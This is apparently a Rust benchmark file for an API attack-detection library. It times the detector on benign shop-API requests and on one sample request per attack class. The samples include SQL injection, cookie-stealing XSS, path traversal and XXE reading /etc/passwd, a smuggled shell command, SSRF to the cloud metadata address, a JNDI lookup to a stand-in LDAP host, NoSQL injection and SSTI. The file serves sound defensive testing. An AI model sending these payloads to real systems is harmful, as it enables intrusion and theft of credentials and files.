//! What detection costs per request: typical benign API requests (the common case, which the
//! prefilter should make cheap) and requests that each carry one attack class.
//!
//! ```sh
//! cargo bench -p apitap-detect --bench detect
//! ```
//! Criterion reports time per iteration over the whole set and, with the element throughput,
//! requests per second; the summary line printed first gives ns per request of one quick pass.
//! Figures belong in the report or docs/bench.md, not here.

use std::hint::black_box;
use std::time::Instant;

use apitap_detect::{DetectConfig, Detector, Finding, Request};
use criterion::{criterion_group, criterion_main, Criterion, Throughput};

/// An owned request; `as_request` borrows it.
struct Owned {
    method: &'static str,
    target: String,
    headers: Vec<(&'static str, String)>,
    body: Vec<u8>,
}

impl Owned {
    fn get(target: &str) -> Owned {
        Owned {
            method: "GET",
            target: target.into(),
            headers: browser_headers(),
            body: Vec::new(),
        }
    }

    fn post(target: &str, content_type: &'static str, body: &str) -> Owned {
        let mut o = Owned::get(target);
        o.method = "POST";
        o.headers.push(("Content-Type", content_type.into()));
        o.body = body.as_bytes().to_vec();
        o
    }

    fn with_header(mut self, name: &'static str, value: &str) -> Owned {
        self.headers.push((name, value.into()));
        self
    }
}

/// The headers of a mobile or browser API client, as most requests carry them.
fn browser_headers() -> Vec<(&'static str, String)> {
    vec![
        ("Host", "api.shop.example".into()),
        ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148".into()),
        ("Accept", "application/json".into()),
        ("Accept-Language", "en-IE,en;q=0.9".into()),
        ("Authorization", "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2ln".into()),
        ("Cookie", "sid=6f1c2a9e0b7d4e3f; theme=dark; lang=en-IE".into()),
        ("X-Request-ID", "3f2b1c9a-8d7e-4f6a-b5c4-d3e2f1a0b9c8".into()),
    ]
}

fn benign() -> Vec<Owned> {
    vec![
        Owned::get("/api/v1/orders/48213?fields=id,total,status&expand=items"),
        Owned::get("/api/v1/search?q=red+running+shoes&page=2&sort=price_asc&size=42"),
        Owned::get("/api/v1/users/3f2b1c9a-8d7e-4f6a-b5c4-d3e2f1a0b9c8/addresses"),
        Owned::post(
            "/api/v1/cart/items",
            "application/json",
            r#"{"sku":"SKU-1042","qty":2,"gift":false,"note":"Please wrap it, it's for my sister's birthday!"}"#,
        ),
        Owned::post(
            "/api/v1/users/42",
            "application/json",
            r#"{"name":"Seán O'Brien","email":"sean.obrien@example.com","address":{"street":"12 O'Connell Street","city":"Dublin","zip":"D01 F5P2"},"phone":"+353 1 555 0100","marketing":{"email":true,"sms":false}}"#,
        ),
        Owned::post(
            "/graphql",
            "application/json",
            r#"{"operationName":"Orders","query":"query Orders($first: Int!) { viewer { orders(first: $first) { edges { node { id total status } } } } }","variables":{"first":20}}"#,
        ),
        Owned::post(
            "/oauth/token",
            "application/x-www-form-urlencoded",
            "grant_type=refresh_token&refresh_token=8xLOxBtZp8&client_id=web-app",
        ),
        Owned::get("/api/v1/products?category=shoes&min_price=20&max_price=120&in_stock=true"),
    ]
}

/// One request per class, the attack where that class usually arrives.
fn attacks() -> Vec<(&'static str, Owned)> {
    vec![
        ("sqli", Owned::get("/api/v1/orders?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--")),
        ("xss", Owned::post("/api/v1/reviews", "application/json", r#"{"product":42,"text":"<img src=x onerror=alert(document.cookie)>"}"#)),
        ("traversal", Owned::get("/api/v1/files?name=..%2f..%2f..%2f..%2fetc%2fpasswd")),
        ("cmdi", Owned::post("/api/v1/diag/ping", "application/json", r#"{"host":"127.0.0.1; cat /etc/passwd"}"#)),
        ("ssrf", Owned::post("/api/v1/webhooks", "application/json", r#"{"url":"http://169.254.169.254/latest/meta-data/iam/"}"#)),
        ("jndi", Owned::get("/api/v1/items").with_header("X-Api-Version", "${${lower:j}ndi:ldap://x.example/a}")),
        ("xxe", Owned::post("/api/v1/import", "application/xml", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>")),
        ("nosqli", Owned::post("/api/login", "application/json", r#"{"username":"admin","password":{"$ne":null}}"#)),
        ("ssti", Owned::get("/api/v1/greet?name=%7B%7B7*7%7D%7D")),
        ("scanner", Owned::get("/.git/config").with_header("User-Agent", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))")),
    ]
}

/// Scans every request of `set` once.
fn scan_all(det: &Detector, set: &[Owned], out: &mut Vec<Finding>) {
    for o in set {
        let headers: Vec<(&str, &str)> = o.headers.iter().map(|(n, v)| (*n, v.as_str())).collect();
        let req = Request {
            method: o.method,
            target: &o.target,
            headers: &headers,
            body: &o.body,
            body_truncated: false,
            endpoint: None,
            client: None,
        };
        out.clear();
        black_box(det.scan(&req, out));
    }
}

/// A quick ns-per-request figure for each set, printed before Criterion's own measurements.
fn summary(det: &Detector) {
    let mut out = Vec::new();
    let sets: Vec<(String, Vec<Owned>)> = std::iter::once(("benign".to_string(), benign()))
        .chain(
            attacks()
                .into_iter()
                .map(|(c, o)| (format!("attack/{c}"), vec![o])),
        )
        .collect();
    for (name, set) in &sets {
        let rounds = 2_000;
        let start = Instant::now();
        for _ in 0..rounds {
            scan_all(det, set, &mut out);
        }
        let ns = start.elapsed().as_nanos() as f64 / (rounds * set.len()) as f64;
        eprintln!("summary {name:<18} {ns:>9.0} ns/request");
    }
}

fn bench(c: &mut Criterion) {
    let det = Detector::new(&DetectConfig::default()).expect("default config");
    summary(&det);
    let mut out = Vec::new();
    let set = benign();
    let mut g = c.benchmark_group("detect");
    g.throughput(Throughput::Elements(set.len() as u64));
    g.bench_function("benign", |b| b.iter(|| scan_all(&det, &set, &mut out)));
    g.throughput(Throughput::Elements(1));
    for (class, o) in attacks() {
        let one = vec![o];
        g.bench_function(format!("attack/{class}"), |b| {
            b.iter(|| scan_all(&det, &one, &mut out))
        });
    }
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
